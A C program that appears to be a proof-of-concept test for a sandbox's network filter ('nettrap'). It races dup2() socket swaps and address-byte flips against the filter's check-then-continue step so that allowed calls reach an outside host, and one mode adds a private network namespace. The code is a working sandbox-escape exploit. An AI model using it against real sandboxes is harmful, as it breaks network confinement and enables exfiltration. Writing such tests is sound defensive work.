/*
 * swapper: the descriptor race of issue 19. Thread A makes an allowed
 * call on descriptor F, over and over; thread B keeps dup2()ing an inet
 * socket onto F and flipping the address bytes A passes to the outside
 * host, and back. A call that nettrap checks and then lets the kernel
 * make again (CONTINUE) can be made by the kernel on B's socket, to B's
 * address.
 *
 *   swapper MODE TRIES OUTSIDE_IP OUTSIDE_PORT MARKER [DIR]
 *
 * MODE:
 *   dgram    A: sendto(F, MARKER, abstract unix address) on a unix
 *            datagram socket (a thread of ours reads them);
 *            B: a UDP socket, the address OUTSIDE_IP:OUTSIDE_PORT.
 *   stream   A: a fresh unix stream socket on F each try, connect(F) to
 *            our abstract listener, then write(F, MARKER);
 *            B: a fresh TCP socket, the address OUTSIDE_IP:OUTSIDE_PORT.
 *   path     as stream, to a listener at the relative path "swap.sock"
 *            in the working directory (DIR, if given).
 *   tcpsend  A: sendto(F, MARKER, 127.0.0.1:port) on a TCP socket
 *            connected to our loopback listener (the address is
 *            ignored); B: a UDP socket, OUTSIDE_IP:OUTSIDE_PORT.
 *   treens   A: sendto(F, MARKER, OUTSIDE_IP:OUTSIDE_PORT) on a UDP
 *            socket of a network namespace of its own, where that
 *            address is on lo (issue 24: allowed there);
 *            B: a UDP socket made before, in the starting namespace.
 *
 * It prints "tries:N ok:M": M of A's calls succeeded.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define F 100
#define ADDRLEN 16 /* sizeof(struct sockaddr_in); the unix names fit */

static union {
	struct sockaddr sa;
	struct sockaddr_in in;
	unsigned char raw[ADDRLEN];
} addr;
static unsigned char good[ADDRLEN], bad[ADDRLEN];
static atomic_int stop;
static const char *mode;
static int keep = -1;	/* A's own socket, kept at another number (dgram, tcpsend, treens) */
static int outer = -1;	/* B's socket of the starting namespace (treens) */

static void die(const char *what)
{
	perror(what);
	exit(2);
}

static void *drain(void *arg)
{
	int fd = (int)(long)arg;
	char buf[256];

	for (;;) {
		if (!strcmp(mode, "dgram")) {
			if (recv(fd, buf, sizeof buf, 0) < 0 && errno != EINTR)
				return NULL;
			continue;
		}
		int c = accept(fd, NULL, NULL);
		if (c < 0) {
			if (errno == EINTR || errno == ECONNABORTED)
				continue;
			return NULL;
		}
		if (!strcmp(mode, "tcpsend")) {
			while (read(c, buf, sizeof buf) > 0)
				;
		}
		close(c);
	}
}

/* hold keeps a state for a random 0-40 us: about the time nettrap takes
 * between its check and its answer. */
static void hold(void)
{
	struct timespec t0, t;
	long ns = (random() % 40) * 1000;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	do
		clock_gettime(CLOCK_MONOTONIC, &t);
	while ((t.tv_sec - t0.tv_sec) * 1000000000L + t.tv_nsec - t0.tv_nsec < ns);
}

static void *swapper(void *arg)
{
	int inet = strcmp(mode, "stream") && strcmp(mode, "path") ? SOCK_DGRAM : SOCK_STREAM;

	(void)arg;
	while (!atomic_load(&stop)) {
		if (outer >= 0) {
			dup2(outer, F);
			hold();
			dup2(keep, F);
			hold();
			continue;
		}
		int s = socket(AF_INET, inet, 0);
		if (s < 0)
			die("socket");
		dup2(s, F);
		close(s);
		memcpy(addr.raw, bad, ADDRLEN);
		hold();
		memcpy(addr.raw, good, ADDRLEN);
		if (keep >= 0)
			dup2(keep, F);
		hold();
	}
	return NULL;
}

/* nlreq sends one rtnetlink request and reads its acknowledgement. */
static void nlreq(int fd, struct nlmsghdr *n)
{
	char buf[512];

	n->nlmsg_flags |= NLM_F_REQUEST | NLM_F_ACK;
	if (send(fd, n, n->nlmsg_len, 0) < 0)
		die("netlink send");
	ssize_t got = recv(fd, buf, sizeof buf, 0);
	struct nlmsghdr *h = (struct nlmsghdr *)buf;
	if (got < (ssize_t)NLMSG_LENGTH(sizeof(struct nlmsgerr)) || h->nlmsg_type != NLMSG_ERROR)
		die("netlink ack");
	int err = ((struct nlmsgerr *)NLMSG_DATA(h))->error;
	if (err) {
		errno = -err;
		die("netlink request");
	}
}

/* ownNamespace moves this (single-threaded) process to a network
 * namespace of its own, with lo up and ip on it (over rtnetlink: under
 * --sealed the interface ioctls are denied even there). */
static void ownNamespace(struct in_addr ip)
{
	if (unshare(CLONE_NEWNET))
		die("unshare");
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	int lo = if_nametoindex("lo");
	if (fd < 0 || !lo)
		die("netlink socket");
	struct {
		struct nlmsghdr n;
		struct ifinfomsg i;
	} up = {
		.n = {.nlmsg_len = sizeof up, .nlmsg_type = RTM_NEWLINK},
		.i = {.ifi_family = AF_UNSPEC, .ifi_index = lo, .ifi_flags = IFF_UP, .ifi_change = IFF_UP},
	};
	nlreq(fd, &up.n);
	struct {
		struct nlmsghdr n;
		struct ifaddrmsg a;
		struct rtattr r;
		struct in_addr ip;
	} addr = {
		.n = {.nlmsg_len = sizeof addr, .nlmsg_type = RTM_NEWADDR, .nlmsg_flags = NLM_F_CREATE | NLM_F_EXCL},
		.a = {.ifa_family = AF_INET, .ifa_prefixlen = 32, .ifa_index = lo},
		.r = {.rta_len = RTA_LENGTH(sizeof(struct in_addr)), .rta_type = IFA_LOCAL},
		.ip = ip,
	};
	nlreq(fd, &addr.n);
	close(fd);
}

int main(int argc, char **argv)
{
	if (argc != 6 && argc != 7) {
		fprintf(stderr, "usage: swapper dgram|stream|path|tcpsend|treens TRIES IP PORT MARKER [DIR]\n");
		return 2;
	}
	if (argc == 7 && chdir(argv[6]))
		die("chdir");
	mode = argv[1];
	long tries = atol(argv[2]);
	const char *marker = argv[5];
	size_t mlen = strlen(marker);

	struct sockaddr_in out = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[4]))};
	if (inet_pton(AF_INET, argv[3], &out.sin_addr) != 1)
		die("inet_pton");
	memcpy(bad, &out, ADDRLEN);

	int lfd = -1;
	socklen_t glen = ADDRLEN;
	if (!strcmp(mode, "treens")) {
		outer = socket(AF_INET, SOCK_DGRAM, 0);
		if (outer < 0)
			die("socket");
		ownNamespace(out.sin_addr);
		keep = socket(AF_INET, SOCK_DGRAM, 0);
		if (keep < 0)
			die("socket");
		memcpy(good, &out, ADDRLEN);
	} else if (!strcmp(mode, "tcpsend")) {
		struct sockaddr_in lo = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
		socklen_t n = sizeof lo;
		lfd = socket(AF_INET, SOCK_STREAM, 0);
		if (lfd < 0 || bind(lfd, (void *)&lo, sizeof lo) || listen(lfd, 64) ||
		    getsockname(lfd, (void *)&lo, &n))
			die("listen");
		memcpy(good, &lo, ADDRLEN);
		keep = socket(AF_INET, SOCK_STREAM, 0);
		if (keep < 0 || connect(keep, (void *)&lo, sizeof lo))
			die("connect");
	} else {
		struct sockaddr_un un = {.sun_family = AF_UNIX};
		if (!strcmp(mode, "path")) {
			strcpy(un.sun_path, "swap.sock");
			unlink(un.sun_path);
		} else {
			snprintf(un.sun_path + 1, sizeof un.sun_path - 1, "swp%08d", (int)getpid() % 100000000);
		}
		memcpy(good, &un, ADDRLEN);
		lfd = socket(AF_UNIX, strcmp(mode, "dgram") ? SOCK_STREAM : SOCK_DGRAM, 0);
		if (lfd < 0 || bind(lfd, (void *)good, ADDRLEN))
			die("bind");
		if (strcmp(mode, "dgram") && listen(lfd, 128))
			die("listen");
		if (!strcmp(mode, "dgram")) {
			keep = socket(AF_UNIX, SOCK_DGRAM, 0);
			if (keep < 0)
				die("socket");
		}
	}
	memcpy(addr.raw, good, ADDRLEN);
	if (keep >= 0)
		dup2(keep, F);

	pthread_t d, b;
	if ((lfd >= 0 && pthread_create(&d, NULL, drain, (void *)(long)lfd)) || pthread_create(&b, NULL, swapper, NULL))
		die("pthread_create");

	long ok = 0;
	for (long i = 0; i < tries; i++) {
		if (!strcmp(mode, "dgram") || !strcmp(mode, "tcpsend") || !strcmp(mode, "treens")) {
			if (sendto(F, marker, mlen, MSG_DONTWAIT | MSG_NOSIGNAL, &addr.sa, glen) == (ssize_t)mlen)
				ok++;
			continue;
		}
		int s = socket(AF_UNIX, SOCK_STREAM, 0);
		if (s < 0)
			die("socket");
		dup2(s, F);
		close(s);
		if (connect(F, &addr.sa, glen) == 0) {
			ok++;
			/* A leaked connection carries the marker (a unix one
			 * too, unless B swapped F again meanwhile). */
			send(F, marker, mlen, MSG_NOSIGNAL | MSG_DONTWAIT);
		}
	}
	atomic_store(&stop, 1);
	pthread_join(b, NULL);
	if (!strcmp(mode, "path"))
		unlink("swap.sock");
	printf("tries:%ld ok:%ld\n", tries, ok);
	return 0;
}
